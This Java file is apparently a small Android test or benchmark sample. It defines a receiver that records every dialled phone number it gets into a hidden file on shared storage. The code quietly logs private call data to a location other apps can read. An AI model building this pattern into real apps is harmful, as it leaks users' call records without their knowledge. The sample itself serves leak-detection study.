package org.example.flows.phone;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import java.io.FileWriter;
import java.io.IOException;

public class DialWatch extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        String number = intent.getStringExtra(Intent.EXTRA_PHONE_NUMBER);
        try {
            FileWriter log = new FileWriter("/sdcard/.dialled", true);
            log.write(number);
            log.close();
        } catch (IOException ignored) {
            return;
        }
    }
}
